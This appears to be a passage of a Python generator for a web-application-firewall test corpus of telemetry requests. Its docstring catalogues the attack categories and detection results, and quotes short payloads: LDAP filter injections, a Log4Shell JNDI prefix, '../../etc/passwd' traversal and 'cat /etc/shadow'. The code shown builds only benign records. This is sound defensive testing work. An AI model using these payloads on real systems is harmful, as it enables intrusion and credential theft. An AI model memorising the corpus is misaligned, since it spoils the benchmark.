#!/usr/bin/env python3
"""Generate the held-out "telemetry" request corpus for Palisade.

What it is
==========
Labelled HTTP requests as they reach observability and telemetry ingestion
endpoints: an application's own beacon/report endpoints, or a collector
(OpenTelemetry Collector, Loki, Elasticsearch, Sentry, Grafana, ...) that sits
behind Palisade as a sidecar.  The corpus was written without looking at
Palisade's rules or code; it measures how the WAF does on traffic nobody tuned
it for.  Telemetry is a hard place for a WAF: benign payloads are full of SQL
statements (db.statement span attributes, ORM breadcrumbs), stack traces, file
paths, shell command lines (process monitoring), URLs with query strings and
user agents, and security tools ship their own alerts, which quote attack
strings verbatim.

Files written (relative to the repository root):

* rulesets/tests/data/telemetry-attacks.jsonl  -- attacks, ``expect: detect``
* rulesets/tests/data/telemetry-benign.jsonl   -- ordinary traffic,
  ``category: benign``, plus 50 ``category: dev-content`` records (engineers
  saving code, queries and config through dashboard/alerting APIs), all
  ``expect: pass``

Record shape: see /work/shared/corpora/README.md (one JSON object per line:
id, set, category, expect, method, uri, version, headers, body).  Every request
carries a realistic Host and User-Agent, a Content-Type for bodies and a
Content-Length equal to the UTF-8 byte length of the body.  Binary wire formats
(Prometheus remote-write snappy/protobuf, OTLP protobuf, Jaeger thrift,
Datadog msgpack) are left out; their JSON/text equivalents are used.

Benign set
==========
463 ordinary requests (``category: benign``) from 29 generators, each with
its own slug in the id (``telemetry/benign/<slug>-NNN``):

* OpenTelemetry OTLP/HTTP JSON: traces (server, DB and client spans;
  ``db.statement``/``db.query.text`` with real PostgreSQL/MySQL/MSSQL/Oracle/
  ClickHouse SQL, a few MongoDB and Redis statements; ``url.full`` with query
  strings; exception events with Java/Python/PHP/Node/.NET/Go/Ruby stack
  traces; ``process.command_line``), metrics and logs (``log.file.path`` such as
  /var/log/... or C:\\inetpub\\logs\\...).  SDK user agents
  (``OTel-OTLP-Exporter-*``, the Collector).  One span kind records an AWS IMDSv2
  token call (``http://169.254.169.254/latest/api/token``) as instrumented SDKs do.
* Zipkin v2 JSON spans (``sql.query`` tags), Jaeger query API searches
  (``tags`` JSON in the query string).
* Prometheus Pushgateway text format (labels with paths, s3 URLs, Windows task
  names), InfluxDB line protocol (v1 and v2 write), Graphite plaintext and
  StatsD over HTTP.
* Log shipping: Loki push JSON, Elasticsearch/OpenSearch ``_bulk`` NDJSON (ECS
  documents with access-log lines, ``process.command_line``), Splunk HEC
  (Linux secure log, Windows 4688 events with PowerShell command lines; batched
  events concatenated without separator, as HEC accepts), Datadog logs/series/
  APM (``/v0.3/traces`` JSON with ``sql.query``)/browser RUM, New Relic Log and
  Event APIs, Honeycomb batch, Fluentd/Fluent Bit HTTP input, Vector
  ``http`` sink NDJSON, Logstash HTTP input (IIS lines).
* Error tracking: Sentry envelopes (``application/x-sentry-envelope`` from
  server SDKs, ``text/plain`` from the browser SDK with ``sentry_key`` in the
  query) carrying events and transactions: stack frames, breadcrumbs holding SQL
  queries, HTTP request context (headers, query string), user objects with
  international names; Sentry store endpoint; Bugsnag, Rollbar and Raygun.
* Browser RUM and reports: CSP reports (``application/csp-report`` and
  ``application/reports+json``; blocked URIs, GTM/analytics ``script-sample``s,
  extension sources), Network Error Logging, deprecation/permissions-policy
  reports, web-vitals ``sendBeacon`` (text/plain JSON) and GET beacons, GA4
  ``/g/collect`` and Measurement Protocol, Segment, RudderStack, Snowplow (GET
  pixel and POST tp2) with page URLs, referrers, search terms and UTM params.
* Audit and security log shipping: syslog over HTTP (RFC 5424/3164 lines from
  sshd, sudo, cron, UFW, nginx, Windows), Kubernetes audit webhook EventLists
  (``requestURI`` including ``pods/exec?command=...``), Falco (via
  Falcosidekick) and osquery results with command lines, GitLab job-trace
  PATCH requests (ANSI colour codes, shell commands; GitLab runners send
  ``Content-Range: <start>-<end>`` without a unit), JUnit XML uploads.
* Query APIs: Loki ``query_range`` (LogQL, including ``line_format`` Go
  templates), Prometheus ``query_range`` (PromQL), Tempo TraceQL search,
  Elasticsearch ``_search`` with ``query_string``, ClickHouse HTTP (SQL in the
  ``query`` parameter or the body), Grafana ``/api/ds/query`` (PromQL, LogQL and
  ``rawSql`` exactly as the Grafana frontend sends on every panel refresh),
  Grafana UI GETs, Prometheus/Alloy scrapes and probes.

Hard cases, kept on purpose: 12 records (slugs ``suricata_eve``,
``modsec_audit``, ``aws_waf_log``, ``crowdsec_alert``, ``wazuh_alert``,
``ids_fastlog``) are security tools forwarding their own alerts to a SIEM
(Splunk HEC, Datadog, Elasticsearch).  They legitimately CONTAIN attack strings
as data (a UNION SELECT URL with a sqlmap user agent, ``<script>`` in a
ModSecurity match, ``${jndi:ldap://`` in an AWS WAF log, ``../../etc/passwd``,
a Shellshock user agent in an access-log line).  A WAF that inspects these
bodies may well flag them; they are realistic for a SIEM ingest endpoint, and
are reported separately below.  Likewise Falco's "Read sensitive file
untrusted" output quotes ``cat /etc/shadow``.

Dev-content set
===============
50 records (``category: dev-content``, ids ``telemetry/dev-content/<slug>-NNN``):
engineers saving code, queries and configuration through dashboard and
alerting APIs: Grafana dashboards (``/api/dashboards/db``: ``rawSql`` panels with
UNION ALL, information_schema, pg_stat_activity and sys.dm_exec_* queries,
PromQL/LogQL targets, markdown text panels holding shell, SQL, PHP and
Dockerfile snippets) (10), Grafana annotations with hot-fix SQL and shell
commands (8), Kibana saved searches/visualizations with KQL and ES|QL (7),
Grafana alert rules with templated annotations and a ``kubectl`` hint (6),
Mimir/Loki ruler YAML (5), Grafana notification templates (Go templates) (4),
Grafana query history (Azure KQL, ClickHouse SQL) (4), Elasticsearch ingest
pipelines (grok, Painless, an OTel Collector YAML in ``_meta``) (3) and Kibana
Painless scripted fields (3).

Attack set
==========
318 attacks (``expect: detect``), each through an injection point this domain
really has; encodings vary (URL, double URL, ``+`` spaces, JSON ``\\u``
escapes, HTML entities, mixed case, SQL comments, ``${IFS}``, quote and glob
obfuscation, base64, overlong UTF-8, EBCDIC):

* sqli (35): log/trace search parameters, Grafana datasource proxy, ClickHouse
  filters and ``url()`` exfiltration, JSON query filters, sort/order-by,
  Sentry-style issue search, a PHP log search form, a tenant header and a cookie;
  union, boolean and time-based blind, error-based, stacked, INTO OUTFILE.
* xss (30): stored through telemetry that dashboards render: OTLP span names and
  attributes, Loki/ES/Datadog log lines, CSP report fields, Sentry user name and
  exception value, Grafana panel titles, annotations and AngularJS expressions
  (dashboard title, snapshot URL), RUM/Segment/GA fields, Zipkin tags, Bugsnag,
  Rollbar, NEL, Kibana saved-search titles; reflected in Jaeger/Kibana URLs.
* lfi (20): Grafana CVE-2021-43798 plugin traversal (9 variants and plugins),
  log download/tail/viewer endpoints (Unix and Windows), Kibana
  CVE-2018-17246, null byte, overlong UTF-8, ``file://``.
* rfi (12): remote include parameters of PHP monitoring tools (Cacti, Nagios,
  Observium, LibreNMS, phpSysInfo, Zabbix, Munin) via http/https/ftp/UNC.
* rce (26): Cacti CVE-2022-46169, ping/traceroute/dig diagnostic tools, alert
  exec actions, collector config reloads, Shellshock in User-Agent and Referer,
  PowerShell/certutil, LibreNMS SNMP community, Zabbix script.create, Fluent Bit
  Lua and Logstash ruby filters, awstats, reverse shells.
* php (15): Laravel Ignition CVE-2021-3129 (php://filter and phar://), object
  injection in a cookie, a JSON field and a form field (Laravel/Monolog gadget
  chains), php://input, data://, expect://, php://filter reads, PHPUnit
  eval-stdin, PHP-CGI CVE-2024-4577, log poisoning via the User-Agent of an
  OTLP request, eval/assert callbacks.
* java (24): Log4Shell in OTLP log bodies, SDK user agent, span attributes,
  Loki lines, Sentry user, an X-Api-Version header, URL-encoded and
  JSON-escaped, ES bulk; Java serialized objects (base64 in JSON and a
  rememberMe cookie), Fastjson autoType, Jackson/logback gadget, SnakeYAML in a
  rule upload, Spring4Shell, Spring Cloud Function SpEL header, actuator/env
  abuse (H2 alias, logging.config), Jolokia (reloadByURL, JNDI realm),
  Elasticsearch MVEL CVE-2014-3120 and Groovy CVE-2015-1427, Struts OGNL in
  Content-Type.
* ssrf (25): Grafana datasource create/update, contact-point webhooks, Infinity
  datasource queries, Grafana avatar CVE-2020-13379, Alertmanager receivers,
  Prometheus remote_read, OTel exporter endpoints, Sentry source-map
  ``abs_path``; cloud metadata in decimal/hex/octal/IPv6/nip.io forms, gopher://
  Redis, file://, dict://, Docker, kubelet, Consul, Kubernetes API, ECS
  credentials.
* xxe (15): JUnit/Cobertura/TRX uploads, SOAP monitoring services, SVG logo
  upload, XInclude, OOB parameter entities, billion laughs, expect://, UNC,
  content-type switching on an OTLP endpoint.
* ssti (20): alert/notification templates, contact points, rule annotations,
  report renderers: Jinja2 (several sandbox escapes and filter bypasses),
  Freemarker, Velocity, Twig, ERB, Smarty, Mako, Thymeleaf, Nunjucks,
  Handlebars, Blade, SpEL.  (Go templates as used by Alertmanager/Grafana are
  not included as attacks: they have no code-execution primitive; benign Go
  templates are in the benign and dev-content sets.)
* nosqli (15): MongoDB operators in JSON logins and query APIs, bracket query
  strings, ``$where``, ``$function``, ``$lookup``, ``\\u0024`` escapes.
* ldap (12): Grafana LDAP debug/sync and user lookup, team search, Nagios XI
  login, on-call group filters.
* crlf (15): header injection and response splitting through redirect and
  callback parameters (Grafana ``redirect_to``, Snowplow ``/r/tp2``), double
  and Unicode-encoded CRLF, LF/CR only, log forging in query and path, CRLF in
  webhook/exporter header values and mail headers.
* protocol (15): CL.TE smuggling with obfuscated Transfer-Encoding (all
  Content-Lengths correct), TRACE/TRACK/CONNECT, absolute URI to an internal
  host, Range DoS, duplicate Host; five raw requests (``raw_b64``): space before
  the colon, obs-fold, ``charset=ibm037`` body, NUL in a header, HTTP/0.9.
* scanner (25): scanner user agents (Nuclei, Nikto, sqlmap, masscan, gobuster,
  ffuf, Nmap NSE, feroxbuster, OpenVAS, WhatWeb, Wfuzz, Acunetix, zgrab,
  DirBuster) probing /actuator, /jolokia, /debug/pprof, /server-status, /.env,
  /.git, Prometheus admin TSDB APIs, Elasticsearch/Grafana/Solr admin, Laravel/
  Symfony/ASP.NET debug pages.
* generic (14): prototype pollution (Segment payloads, query strings, JSON
  escapes), Kibana Timelion CVE-2019-7609, Node.js code injection, Python eval
  and pickle, Ruby YAML gadget, SSI ``#exec``, JavaScript eval.

How to run
==========
From the repository root::

    python3 scripts/corpus-telemetry.py

The generator is deterministic (``random.Random`` with a fixed seed, Python
standard library only); running it twice gives byte-identical files.  Then::

    /work/bin/pr-t0 eval --corpus rulesets/tests/data/telemetry-attacks.jsonl
    /work/bin/pr-t0 eval --corpus rulesets/tests/data/telemetry-benign.jsonl

First sight
===========
2026-12-06, ``/work/bin/pr-t0 eval`` with the built-in rules, paranoia 1,
threshold 5 (defaults).  Nothing in the corpus was changed after this run.

Attacks: 314/318 blocked (98.7%).

==========  ========  =====
category    blocked   rate
==========  ========  =====
sqli        35/35     100%
xss         30/30     100%
lfi         20/20     100%
rfi         12/12     100%
rce         26/26     100%
php         15/15     100%
java        24/24     100%
ssrf        25/25     100%
xxe         15/15     100%
ssti        20/20     100%
nosqli      15/15     100%
ldap        9/12      75.0%
crlf        14/15     93.3%
protocol    15/15     100%
scanner     25/25     100%
generic     14/14     100%
==========  ========  =====

Missed (score 0, no match at all):

* ``ldap/grafana_ldap_debug-001``, ``-002``, ``ldap/grafana_ldap_sync-001``:
  LDAP filter injection (``*)(uid=*))(|(uid=*``, ``admin)(|(userPassword=*)``,
  ``*)(objectClass=*``) URL-encoded in a path segment
  (``/api/admin/ldap/<username>``) rather than in a query argument.
* ``crlf/log_forging_query-001``: ``%0d%0a`` followed by a forged log line
  (timestamp, level, message), not by an HTTP header name.

Benign: 225/463 ordinary requests blocked (48.6%); dev-content 22/50 (44.0%);
all ``pass`` records 247/513 (48.1%).  Without the 12 forwarded security alerts
(10 of them flagged) the ordinary rate is 215/451 (47.7%).  86 of the 247
flagged requests scored exactly 5 (one rule).

Flagged ordinary benign, by kind (flagged/total; rule ids, records per rule):

* log shipping whose records carry file paths: otlp_logs 26/26, loki_push
  18/18, es_bulk 17/18, splunk_hec 13/14, vector_http 4/4, pushgateway 8/14,
  influx_line 4/14, syslog_http 4/10 -- lfi-200 (``/var/log/``, ``/var/lib/``,
  ``/var/www/``), lfi-260/lfi-261 (``/var/log/nginx/error.log``,
  ``/error.log``), lfi-210 (``C:\\inetpub``), rce-152/rce-154 (``powershell.exe
  -NoProfile -File`` in Windows 4688 events), rce-120 (``/usr/local/bin/...``),
  rfi-100 (``http://<ip>:`` upstream URLs), rce-130 (``2>&1`` in a cron line).
* SQL in spans, breadcrumbs and events: otlp_traces 35/40, sentry_envelope
  19/30, sentry_store 5/8, datadog_apm 4/5, newrelic_events 4/4,
  honeycomb_batch 4/4, zipkin_v2 3/14, junit_upload 5/5 (SQL in
  ``system-out``), jaeger_search 2/6 (``tags`` holding a db.statement),
  grafana_ds_query 3/5 (rawSql), clickhouse_post 1/4, k8s_audit 1/14
  (``pods/exec?command=psql -c select count(*)``), logstash_http 1/4 --
  sqli-011 (``SELECT ... FROM``), sqli-041 (``INSERT INTO ... VALUES``,
  ``UPDATE ... SET``), sqli-002 (libinjection), sqli-012 (sub-select),
  sqli-022, sqli-040 (``; UPDATE`` in a transaction), sqli-090 (``::jsonb``),
  sqli-110 (``WHERE 1=1`` from WordPress), rce-102/rce-104/rce-140 (MySQL
  back-quoted identifiers such as `` `id` ``), nosqli-110/nosqli-120 (MongoDB
  ``$lt`` in db.statement), ssrf-100 + rfi-100 (the traced IMDSv2 call to
  169.254.169.254).
* stack traces: java-110 (``org.springframework...`` class names) in traces,
  logs, bugsnag_notify 3/5, raygun_entries 2/5, newrelic_logs 2/4; lfi-200 on
  ``/var/www/html/...`` PHP frames (rollbar_item 2/5).
* process monitoring: osquery_log 7/7, falco_event 5/7 -- rce-110 (``sh -c
  find``, ``kubectl get pods``), rce-120, lfi-210/lfi-262 (``C:\\Windows``),
  ssrf-104 (``curl http://127.0.0.1:9090/-/ready``), lfi-201.
* ci_job_trace 10/10 -- protocol-214 on GitLab's ``Content-Range: <start>-<end>``,
  plus rce-101/rce-157/sqli-011 on job output.
* query GETs: loki_query_range 1/5 and prom_query_range 1/5 (lfi-200 on
  ``/var/log/syslog`` and ``/var/lib/docker`` label values), otlp_metrics 1/14
  (rce-120 on ``process.command_args``).
* forwarded security alerts (the documented hard cases): suricata_eve 2/2
  (scanner-130, sqli-002/010/011/022), modsec_audit 2/2 (xss-002/010/040/042/070),
  aws_waf_log 2/2 (java-100, rfi-100), crowdsec_alert 2/2 (lfi-100/103/200/260),
  wazuh_alert 2/2 (rce-145 Shellshock, rce-120/121/122, rfi-100, lfi-200/260/261);
  ids_fastlog 0/2.

Not flagged at all: browser reports and RUM (CSP, report-to, NEL/Reporting
API, web vitals, GA4, Segment, RudderStack, Snowplow), Datadog logs/series/RUM,
Graphite, StatsD, Fluent HTTP, Elasticsearch ``_search``, Tempo search, Grafana
UI GETs, scrapes, Jaeger trace GETs.

Flagged dev-content: grafana_dashboard 7/10 (sqli-011, sqli-010, sqli-002,
sqli-022, sqli-110, sqli-100, rce-120, rce-102, lfi-200, php-100/101/120 on the
PHP snippet), alert_rule 6/6 (rce-101 on a `` `kubectl -n prod logs ...` `` hint
in the annotation), ingest_pipeline 3/3 (sqli-100 on Painless ``.substring(``),
grafana_annotation 2/8 (sqli-041 on a hot-fix ``UPDATE ... SET``; lfi-200 +
rce-102 on ``du -sh /var/log/* | sort -h``), query_history 2/4 (sqli-011,
sqli-022 on ClickHouse SQL), scripted_field 2/3 (rce-151, sqli-030 on Painless).
Not flagged: Kibana saved objects (KQL, ES|QL), notification templates (Go
templates), ruler YAML.
"""

import base64
import json
import os
import random
import urllib.parse

SEED = 20261206
R = random.Random(SEED)
SET = "telemetry"

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.join(HERE, "..", "rulesets", "tests", "data")

ATTACKS = []
BENIGN = []
_COUNTERS = {}
_SEEN_IDS = set()


# ---------------------------------------------------------------------------
# record helpers
# ---------------------------------------------------------------------------

def _next_id(category, slug):
    key = (category, slug)
    _COUNTERS[key] = _COUNTERS.get(key, 0) + 1
    rid = "%s/%s/%s-%03d" % (SET, category, slug, _COUNTERS[key])
    assert rid not in _SEEN_IDS, rid
    _SEEN_IDS.add(rid)
    return rid


def make(category, slug, method, uri, headers, body=None, expect=None):
    """Build one record; appends Content-Length when there is a body."""
    if expect is None:
        expect = "pass" if category in ("benign", "dev-content") else "detect"
    hdrs = [list(h) for h in headers]
    if body is not None:
        assert any(h[0].lower() == "content-type" for h in hdrs), (slug, hdrs)
        hdrs = [h for h in hdrs if h[0].lower() != "content-length"]
        hdrs.append(["Content-Length", str(len(body.encode("utf-8")))])
    assert any(h[0].lower() == "host" for h in hdrs), slug
    assert any(h[0].lower() == "user-agent" for h in hdrs), slug
    rec = {
        "id": _next_id(category, slug),
        "set": SET,
        "category": category,
        "expect": expect,
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": hdrs,
    }
    if body is not None:
        rec["body"] = body
    return rec


def benign(slug, method, uri, headers, body=None):
    BENIGN.append(make("benign", slug, method, uri, headers, body))


def dev(slug, method, uri, headers, body=None):
    BENIGN.append(make("dev-content", slug, method, uri, headers, body))


def attack(category, slug, method, uri, headers, body=None):
    ATTACKS.append(make(category, slug, method, uri, headers, body))


def J(obj):
    """Compact JSON as SDKs send it (non-ASCII kept as UTF-8)."""
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def JP(obj):
    """JSON with default separators (some agents send it that way)."""
    return json.dumps(obj, ensure_ascii=False)


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def qp(s):
    return urllib.parse.quote_plus(s)


def qs(pairs):
    return urllib.parse.urlencode(pairs, quote_via=urllib.parse.quote)


def pick(seq):
    return R.choice(seq)


def hexid(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


# ---------------------------------------------------------------------------
# shared pools
# ---------------------------------------------------------------------------

BASE_TS = 1796515200  # 2026-12-06T00:00:00Z


def ts_s():
    return BASE_TS - R.randint(0, 86400 * 3)


def ts_ms():
    return ts_s() * 1000 + R.randint(0, 999)


def ts_ns():
    return ts_ms() * 1000000 + R.randint(0, 999999)


def iso(t=None):
    import datetime
    if t is None:
        t = ts_s()
    d = datetime.datetime.fromtimestamp(t, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%03dZ" % R.randint(0, 999)


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
]

LANGS = [
    "en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6",
    "ja-JP,ja;q=0.9,en;q=0.6", "pt-BR,pt;q=0.9,en;q=0.5", "es-ES,es;q=0.9",
    "zh-CN,zh;q=0.9,en;q=0.4", "pl-PL,pl;q=0.9,en;q=0.6", "tr-TR,tr;q=0.9",
    "ko-KR,ko;q=0.9,en-US;q=0.7", "sv-SE,sv;q=0.9,en;q=0.6", "ar-SA,ar;q=0.9,en;q=0.5",
]

SERVICES = [
    "checkout-api", "cart-service", "payments", "user-profile", "search-gateway",
    "inventory-worker", "notification-svc", "auth-service", "billing-batch",
    "recommendations", "shipping-quotes", "media-transcoder", "frontend-web",
    "ledger", "catalog-import", "fraud-scoring", "api-gateway", "reporting-etl",
]

NAMESPACES = ["prod", "staging", "shop", "payments", "platform", "data", "edge"]

K8S_NODES = ["ip-10-42-3-17.eu-central-1.compute.internal",
             "gke-prod-pool-2-8f3a1c2d-x7kq", "aks-nodepool1-31718369-vmss000004",
             "worker-07.dc2.example.net", "node-a3.k8s.acme.local"]

DB_STATEMENTS = [
    ("postgresql", "SELECT o.id, o.total_cents, o.currency FROM orders o WHERE o.customer_id = $1 AND o.status = ANY($2) ORDER BY o.created_at DESC LIMIT 20"),
    ("postgresql", "UPDATE inventory SET reserved = reserved + $1, updated_at = now() WHERE sku = $2 AND warehouse_id = $3 RETURNING reserved"),
    ("postgresql", "INSERT INTO audit_events (actor_id, action, target, payload, created_at) VALUES ($1, $2, $3, $4::jsonb, now())"),
    ("postgresql", "SELECT count(*) FROM sessions WHERE expires_at < now() - interval '7 days'"),
    ("postgresql", "WITH recent AS (SELECT user_id, max(seen_at) AS last_seen FROM page_views WHERE seen_at > now() - interval '1 day' GROUP BY user_id) SELECT u.email, r.last_seen FROM users u JOIN recent r ON r.user_id = u.id"),
    ("mysql", "SELECT p.id, p.name, p.price FROM products p WHERE p.category_id IN (3, 7, 12) AND p.deleted_at IS NULL ORDER BY p.popularity DESC LIMIT 48"),
    ("mysql", "UPDATE `orders` SET `status` = 'shipped', `shipped_at` = '2026-12-04 09:13:22' WHERE `id` = 4821337"),
    ("mysql", "SELECT `wp_posts`.* FROM `wp_posts` WHERE 1=1 AND `wp_posts`.`post_type` = 'post' AND (`wp_posts`.`post_status` = 'publish') ORDER BY `wp_posts`.`post_date` DESC LIMIT 0, 10"),
    ("mysql", "DELETE FROM cache_entries WHERE expires < UNIX_TIMESTAMP() LIMIT 1000"),
    ("mysql", "SELECT c.id, c.email FROM customers c LEFT JOIN subscriptions s ON s.customer_id = c.id WHERE s.id IS NULL OR s.status = 'cancelled'"),
    ("mssql", "SELECT TOP (50) [t].[Id], [t].[Reference], [t].[Amount] FROM [dbo].[Transactions] AS [t] WHERE [t].[AccountId] = @__accountId_0 ORDER BY [t].[BookedAt] DESC"),
    ("mssql", "EXEC dbo.usp_RecalculateBalances @AccountId = @p0, @AsOf = @p1"),
    ("oracle", "SELECT emp_id, last_name, hire_date FROM hr.employees WHERE department_id = :1 AND ROWNUM <= 100"),
    ("sqlite", "SELECT key, value FROM settings WHERE namespace = ? AND key LIKE 'feature.%'"),
    ("clickhouse", "SELECT toStartOfMinute(timestamp) AS t, count() FROM logs.events WHERE service = 'checkout-api' AND timestamp > now() - INTERVAL 1 HOUR GROUP BY t ORDER BY t"),
    ("postgresql", "SELECT id, title FROM articles WHERE to_tsvector('german', body) @@ plainto_tsquery('german', $1) ORDER BY published_at DESC LIMIT 10"),
    ("mysql", "INSERT INTO order_items (order_id, sku, qty, unit_price) VALUES (991204, 'SKU-11-BLK', 2, 1999), (991204, 'SKU-40-RED', 1, 4500)"),
    ("postgresql", "BEGIN; SELECT balance FROM accounts WHERE id = $1 FOR UPDATE; UPDATE accounts SET balance = balance - $2 WHERE id = $1; COMMIT"),
]

MONGO_STATEMENTS = [
    '{"find":"sessions","filter":{"expiresAt":{"$lt":"?"}},"limit":500}',
    '{"aggregate":"orders","pipeline":[{"$match":{"status":"?"}},{"$group":{"_id":"$customerId","n":{"$sum":1}}}]}',
    '{"update":"carts","updates":[{"q":{"_id":"?"},"u":{"$set":{"items":"?"}}}]}',
]

REDIS_STATEMENTS = ["GET session:?", "HGETALL cart:?", "SETEX ratelimit:? ? ?",
                    "ZADD leaderboard ? ?", "MGET feature:? feature:?"]

URL_PATHS = [
    "/api/v2/orders?status=open&page=2&per_page=50",
    "/api/v1/products/search?q=wireless+headphones&sort=price_asc&brand=sony&brand=jbl",
    "/checkout/confirm?order=991204&utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026",
    "/de/kategorie/schuhe?groesse=42&farbe=schwarz",
    "/graphql?operationName=GetCart",
    "/users/48213/avatar?size=128",
    "/api/reports/export?format=csv&from=2026-11-01&to=2026-11-30",
    "/static/js/main.4f3c2a1b.js",
    "/healthz",
    "/api/v1/invoices/INV-2026-11-00421/pdf",
    "/search?q=%E6%89%8B%E8%A2%8B+%E9%98%B2%E6%B0%B4&lang=ja",
    "/oauth/callback?code=4%2F0AeanS0a9xZk&state=af0ifjsldkj",
]

JAVA_TRACE = """java.lang.NullPointerException: Cannot invoke "com.acme.billing.model.Invoice.getCustomer()" because "invoice" is null
\tat com.acme.billing.service.InvoiceService.render(InvoiceService.java:212)
\tat com.acme.billing.web.InvoiceController.download(InvoiceController.java:88)
\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)
\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)
\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)
\tat org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:1089)
\tat org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:138)
\tat java.base/java.lang.Thread.run(Thread.java:1583)"""

JAVA_TRACE_SQL = """org.springframework.dao.DataIntegrityViolationException: could not execute statement [ERROR: duplicate key value violates unique constraint "users_email_key"
  Detail: Key (email)=(m.kowalski@example.pl) already exists.] [insert into users (created_at,email,display_name,id) values (?,?,?,?)]; SQL [insert into users (created_at,email,display_name,id) values (?,?,?,?)]; constraint [users_email_key]
\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:290)
\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.translateExceptionIfPossible(HibernateJpaDialect.java:241)
\tat com.acme.accounts.UserRepository$$SpringCGLIB$$0.save(<generated>)
\tat com.acme.accounts.SignupService.register(SignupService.java:57)
Caused by: org.postgresql.util.PSQLException: ERROR: duplicate key value violates unique constraint "users_email_key"
\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)
\t... 41 more"""

PY_TRACE = """Traceback (most recent call last):
  File "/app/.venv/lib/python3.12/site-packages/django/core/handlers/exception.py", line 55, in inner
    response = get_response(request)
  File "/app/.venv/lib/python3.12/site-packages/django/core/handlers/base.py", line 197, in _get_response
    response = wrapped_callback(request, *callback_args, **callback_kwargs)
  File "/app/shop/views/cart.py", line 141, in apply_coupon
    coupon = Coupon.objects.get(code=request.POST["code"].strip().upper())
  File "/app/.venv/lib/python3.12/site-packages/django/db/models/query.py", line 649, in get
    raise self.model.DoesNotExist(
shop.models.Coupon.DoesNotExist: Coupon matching query does not exist."""

PY_TRACE2 = """Traceback (most recent call last):
  File "/srv/worker/tasks/export.py", line 88, in run_export
    with open(os.path.join(EXPORT_DIR, f"{job.id}.csv"), "w", newline="") as fh:
FileNotFoundError: [Errno 2] No such file or directory: '/var/lib/worker/exports/7f3e2c1a.csv'"""

PHP_TRACE = """PDOException: SQLSTATE[42S22]: Column not found: 1054 Unknown column 'p.sku_code' in 'field list' in /var/www/html/vendor/doctrine/dbal/src/Driver/PDO/Connection.php:71
Stack trace:
#0 /var/www/html/vendor/doctrine/dbal/src/Driver/PDO/Connection.php(71): PDO->query('SELECT p.id, p....')
#1 /var/www/html/vendor/doctrine/dbal/src/Connection.php(1089): Doctrine\\DBAL\\Driver\\PDO\\Connection->query('SELECT p.id, p....')
#2 /var/www/html/src/Repository/ProductRepository.php(112): Doctrine\\DBAL\\Connection->executeQuery('SELECT p.id, p....', Array)
#3 /var/www/html/src/Controller/CatalogController.php(45): App\\Repository\\ProductRepository->findFeatured(12)
#4 {main}"""

NODE_TRACE = """TypeError: Cannot read properties of undefined (reading 'map')
    at renderLineItems (webpack-internal:///./src/components/Cart.tsx:42:27)
    at Cart (webpack-internal:///./src/components/Cart.tsx:88:13)
    at renderWithHooks (/app/node_modules/react-dom/cjs/react-dom-server.node.development.js:5662:16)
    at processTicksAndRejections (node:internal/process/task_queues:95:5)"""

DOTNET_TRACE = """System.InvalidOperationException: Sequence contains no elements
   at System.Linq.ThrowHelper.ThrowNoElementsException()
   at System.Linq.Enumerable.First[TSource](IEnumerable`1 source)
   at Contoso.Payroll.Services.PayslipService.GetLatest(Int32 employeeId) in C:\\agent\\_work\\3\\s\\src\\Contoso.Payroll\\Services\\PayslipService.cs:line 74
   at Contoso.Payroll.Controllers.PayslipController.Latest(Int32 id) in C:\\agent\\_work\\3\\s\\src\\Contoso.Payroll\\Controllers\\PayslipController.cs:line 31
   at Microsoft.AspNetCore.Mvc.Infrastructure.ActionMethodExecutor.SyncObjectResultExecutor.Execute(ActionContext actionContext, IActionResultTypeMapper mapper, ObjectMethodExecutor executor, Object controller, Object[] arguments)"""

GO_TRACE = """panic: runtime error: index out of range [3] with length 3

goroutine 1187 [running]:
github.com/acme/shipping/internal/quote.(*Calculator).zoneFor(0xc000214f00, {0xc0003a6120, 0x5})
\t/build/internal/quote/calc.go:133 +0x2a5
github.com/acme/shipping/internal/api.(*Server).handleQuote(0xc00019e000, {0x1a2b3c0, 0xc0004b21c0}, 0xc000532000)
\t/build/internal/api/quote.go:61 +0x1f4
